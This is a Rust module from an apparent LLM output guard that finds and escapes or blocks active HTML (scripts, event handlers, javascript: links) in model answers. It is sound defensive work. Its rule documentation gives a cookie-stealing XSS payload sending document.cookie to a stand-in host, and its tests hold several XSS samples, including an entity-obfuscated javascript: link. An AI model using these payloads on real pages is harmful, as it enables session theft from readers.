//! Active markup in the answer: what runs, loads or leads away when a page shows it.

use super::Action;
use super::checks::{Check, ChecksError, Files, Made, Request};
use super::fence::Fence;
use super::judgement::Reason;
use super::policy::Policy;
use super::stream::{Kinds, Reader, Seen, Step, Tail};
use bartizan_core::{Severity, cwe, owasp_llm, rule};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use std::ops::Range;

rule! {
    /// ## What it finds
    /// HTML in an answer that acts when it is shown: scripts, frames, forms, event handlers, addresses with `javascript:`.
    /// Markup inside fenced code and between backticks is shown and not run, and left alone unless the policy says otherwise.
    /// ## Why it matters
    /// Pages that show answers as HTML run it with the rights of the reader.
    /// ## Example
    /// `<img src=x onerror=fetch('//collect.example/'+document.cookie)>`
    /// ## How to fix
    /// Escape answers where they are shown; let the guard escape what acts.
    /// ## References
    /// - <https://cwe.mitre.org/data/definitions/79.html>
    /// - <https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/>
    pub const ACTIVE_MARKUP: Rule = Rule {
        id: "guard/active-markup",
        title: "markup that acts in an answer",
        severity: Severity::High,
        remedy: "Escape answers where they are shown.",
        taxonomies: &[cwe(79), owasp_llm("LLM05")],
    };
}

/// Active markup in answers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(default, deny_unknown_fields, rename_all = "kebab-case")]
pub struct MarkupPolicy {
    /// What to do.
    pub mode: MarkupHandling,
    /// Whether markup inside code is judged too: for pages that show answers as HTML and know no Markdown.
    pub fenced: bool,
}

/// What to do about active markup.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum MarkupHandling {
    /// Do not look.
    Off,
    /// Let it pass and say so.
    Flag,
    /// Write its brackets as `&lt;` and `&gt;`.
    #[default]
    Escape,
    /// End the answer.
    Block,
}

/// Longest tag that is waited for; a longer one is judged by its beginning.
const LONGEST: usize = 2048;

/// Elements that act by themselves.
const ACTIVE: [&str; 16] = [
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "link", "meta",
    "portal", "math", "svg", "template", "style",
];

/// The check, if it is on.
#[expect(clippy::unnecessary_wraps, reason = "the form of the registry")]
pub(crate) fn make(policy: &Policy, _: Files<'_>) -> Result<Made, ChecksError> {
    let policy = policy.markup;
    Ok((policy.mode != MarkupHandling::Off).then(|| Box::new(Markup { policy }) as Box<dyn Check>))
}

#[derive(Debug)]
struct Markup {
    policy: MarkupPolicy,
}

impl Check for Markup {
    fn reader(&self, _: &Request<'_>) -> Option<Box<dyn Reader>> {
        Some(Box::new(MarkupReader { policy: self.policy, fence: Fence::default(), tag: None }))
    }
}

#[derive(Debug, Clone)]
struct MarkupReader {
    policy: MarkupPolicy,
    fence: Fence,
    tag: Option<Tag>,
}

/// What begins a tag, a link or code, and what ends a line.
const TURNS: Kinds = Kinds::ANGLE.or(Kinds::SQUARE).or(Kinds::FENCE).or(Kinds::LINE_END);

/// A tag under way.
#[derive(Debug, Clone, Copy)]
struct Tag {
    start: usize,
    /// The quote a value is in.
    quote: Option<u8>,
    /// The last byte that is no blank.
    last: u8,
}

impl MarkupReader {
    fn tell(&self, tail: &Tail, span: Range<usize>, seen: &mut Vec<Seen>) {
        let text = tail.get(span.clone());
        let Some(what) = active(text) else { return };
        let action = match self.policy.mode {
            MarkupHandling::Off | MarkupHandling::Flag => Action::Flag,
            MarkupHandling::Escape => Action::Redact,
            MarkupHandling::Block => Action::Block,
        };
        let escaped = (action == Action::Redact).then(|| text.replace('<', "&lt;").replace('>', "&gt;"));
        seen.push(seen_of(what, action, span, escaped));
    }
}

fn seen_of(what: &str, action: Action, span: Range<usize>, replacement: Option<String>) -> Seen {
    Seen {
        reason: Reason {
            check: ACTIVE_MARKUP.id,
            label: what.to_owned(),
            score: 0.9,
            action,
            pointer: String::new(),
            span,
            message: format!("markup that acts when it is shown: {what}"),
        },
        replacement,
    }
}

impl Reader for MarkupReader {
    fn read(&mut self, tail: &Tail, step: &Step, last: bool, seen: &mut Vec<Seen>) -> usize {
        // A word within a line that opens and closes nothing.
        if self.tag.is_none() && self.fence.in_line() && !step.kinds.any(TURNS) {
            return step.end;
        }
        let word = tail.get(step.span());
        let (mut span, block) = (self.fence.in_span(), self.fence.in_block());
        self.fence.word(word);
        let shown = !self.policy.fenced && self.tag.is_none();
        if shown && (block || self.fence.in_block()) {
            return step.end;
        }
        if self.tag.is_none() && !word.contains('<') {
            if let Some(at) = script_link(word) {
                let span = step.start.saturating_add(at)..step.start.saturating_add(word.trim_end().len());
                let action =
                    if self.policy.mode == MarkupHandling::Block { Action::Block } else { Action::Flag };
                let removed = (self.policy.mode == MarkupHandling::Escape).then(|| "#)".to_owned());
                let action = if removed.is_some() { Action::Redact } else { action };
                seen.push(seen_of("javascript-link", action, span, removed));
            }
            return step.end;
        }
        let bytes = word.as_bytes();
        for (at, &byte) in bytes.iter().enumerate() {
            let place = step.start.saturating_add(at);
            let Some(tag) = &mut self.tag else {
                span ^= byte == b'`';
                if span && shown {
                    continue;
                }
                let next = bytes.get(at.saturating_add(1)).copied().unwrap_or_default();
                if byte == b'<' && (next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?')) {
                    self.tag = Some(Tag { start: place, quote: None, last: byte });
                }
                continue;
            };
            match (tag.quote, byte) {
                (Some(quote), _) if quote == byte => tag.quote = None,
                (None, b'"' | b'\'') if tag.last == b'=' => tag.quote = Some(byte),
                (None, b'>') => {
                    let span = tag.start..place.saturating_add(1);
                    self.tag = None;
                    self.tell(tail, span, seen);
                    continue;
                }
                _ => {}
            }
            if !byte.is_ascii_whitespace() {
                tag.last = byte;
            }
        }
        if let Some(tag) = self.tag
            && (last || step.end.saturating_sub(tag.start) > LONGEST)
        {
            self.tag = None;
            self.tell(tail, tag.start..step.end, seen);
        }
        self.tag.map_or(step.end, |tag| tag.start)
    }

    fn boxed(&self) -> Box<dyn Reader> {
        Box::new(self.clone())
    }

    fn reads_arguments(&self) -> bool {
        false
    }
}

/// Where a link of Markdown begins that runs a script.
fn script_link(word: &str) -> Option<usize> {
    // One character is looked for many times as quickly as two.
    let at = word.find(']').and_then(|_| word.find("](")).map(|at| at.saturating_add(2))?;
    is_script(word.get(at..)?).then_some(at)
}

/// Whether an address runs a script, however it is dressed: blanks, controls and character references aside.
fn is_script(address: &str) -> bool {
    let head: String =
        plain(address).chars().filter(|one| !one.is_whitespace() && !one.is_control()).take(24).collect();
    let head = head.to_ascii_lowercase();
    let head = head.trim_start_matches(['<', '"', '\'']);
    ["javascript:", "vbscript:", "data:text/html", "data:image/svg", "data:application"]
        .iter()
        .any(|scheme| head.starts_with(scheme))
}

/// The first characters with numeric and the usual named character references undone.
fn plain(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text.get(..text.floor_char_boundary(512)).unwrap_or_default();
    while let Some(at) = rest.find('&') {
        out.push_str(rest.get(..at).unwrap_or_default());
        rest = rest.get(at..).unwrap_or_default();
        let end = rest
            .bytes()
            .skip(1)
            .take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'#')
            .count()
            .saturating_add(1);
        let name = rest.get(1..end).unwrap_or_default();
        let number = name
            .strip_prefix("#x")
            .or(name.strip_prefix("#X"))
            .map(|digits| u32::from_str_radix(digits, 16).ok());
        let number = number.or_else(|| name.strip_prefix('#').map(|digits| digits.parse().ok())).flatten();
        let character = number.and_then(char::from_u32).or(match name {
            "colon" => Some(':'),
            "Tab" => Some('\t'),
            "NewLine" => Some('\n'),
            _ => None,
        });
        if let Some(character) = character {
            out.push(character);
            rest = rest.get(end..).unwrap_or_default();
            rest = rest.strip_prefix(';').unwrap_or(rest);
        } else {
            out.push('&');
            rest = rest.get(1..).unwrap_or_default();
        }
    }
    out.push_str(rest);
    out
}

/// What acts in a tag.
fn active(tag: &str) -> Option<&'static str> {
    let inner = tag.trim_start_matches(['<', '/']);
    let name: String =
        inner.chars().take_while(char::is_ascii_alphanumeric).map(|one| one.to_ascii_lowercase()).collect();
    if let Some(known) = ACTIVE.iter().find(|known| **known == name) {
        return Some(known);
    }
    let mut rest = inner.get(name.len()..).unwrap_or_default();
    // Attributes begin behind blanks, slashes or quotes; a value ends at its quote or at a blank.
    while let Some(equals) = rest.find('=') {
        let head = rest.get(..equals).unwrap_or_default().trim_end();
        let attribute = head
            .rsplit(|one: char| one.is_whitespace() || matches!(one, '/' | '"' | '\''))
            .next()
            .unwrap_or_default();
        let attribute = attribute.to_ascii_lowercase();
        let value = rest.get(equals.saturating_add(1)..).unwrap_or_default().trim_start();
        let quote = value.chars().next().filter(|first| matches!(first, '"' | '\''));
        let (value, after) = if let Some(quote) = quote {
            let inner = value.get(1..).unwrap_or_default();
            inner.split_at(inner.find(quote).unwrap_or(inner.len()))
        } else {
            value.split_at(value.find(|one: char| one.is_whitespace() || one == '>').unwrap_or(value.len()))
        };
        if attribute.len() > 3
            && attribute.starts_with("on")
            && attribute.bytes().all(|byte| byte.is_ascii_alphabetic())
        {
            return Some("event-handler");
        }
        if matches!(
            attribute.as_str(),
            "href" | "src" | "action" | "formaction" | "xlink:href" | "data" | "poster" | "srcdoc"
        ) && (attribute == "srcdoc" || is_script(value))
        {
            return Some("javascript-address");
        }
        if attribute == "style"
            && ["expression(", "javascript:", "-moz-binding", "behavior:"]
                .iter()
                .any(|one| value.to_ascii_lowercase().contains(one))
        {
            return Some("script-in-style");
        }
        rest = after;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::super::answer::tests::{answer, streamed};
    use super::super::checks::tests::{checks, exchange};
    use crate::check::Session;

    fn labels(toml: &str, text: &str) -> (String, Vec<String>) {
        let (out, reasons, blocked) = answer(toml, text);
        (out, reasons.into_iter().chain(blocked).map(|one| one.label).collect())
    }

    #[test]
    fn what_acts_is_escaped() {
        for (text, label) in [
            ("a <script>alert(1)</script> b", "script"),
            ("a <img src=x onerror=\"a > b\"> b", "event-handler"),
            ("a <a href=\" &#x6a;avascript:alert(1)\">x</a> b", "javascript-address"),
            ("a <svg/onload=alert(1)> b", "svg"),
            ("a <iframe srcdoc='x'", "iframe"),
            ("a `x`<script> b", "script"),
            ("a <div style='width:expression(1)'> b", "script-in-style"),
        ] {
            let (out, found) = labels("", text);
            assert_eq!(found.first().map(String::as_str), Some(label), "{text}");
            assert!(out.contains("&lt;"), "{out}");
        }
        assert_eq!(labels("", "a [x](javascript:alert(1)) b").0, "a [x](#) b");
    }

    #[test]
    fn plain_markup_comparisons_and_shown_code_are_left_alone() {
        for text in [
            "a <b>bold</b> and <a href=\"https://example.org/?on=1\">link</a>",
            "if a < b and c > d then i<10",
            "Use `<script>` tags, ` <b onclick=x> ` too:\n```html\n<script>alert(1)</script>\n```\n",
        ] {
            assert_eq!(labels("", text), (text.to_owned(), vec![]));
        }
        assert_eq!(labels("[markup]\nfenced = true", "`<script>`").1, ["script"]);
    }

    #[test]
    fn no_cut_lets_a_tag_out() {
        let text = "one <img alt=\"two three\" src=x onerror='go( 1 )'> four";
        let checks = checks("[markup]\nmode = 'block'");
        for cut in 0..text.len() {
            let mut judge = checks.answer(&exchange(&[]), &Session::new([0; 32]));
            let (out, _, blocked) = streamed(&mut judge, text, &[cut]);
            assert_eq!((out.as_str(), blocked.is_some()), ("one ", true));
        }
    }
}
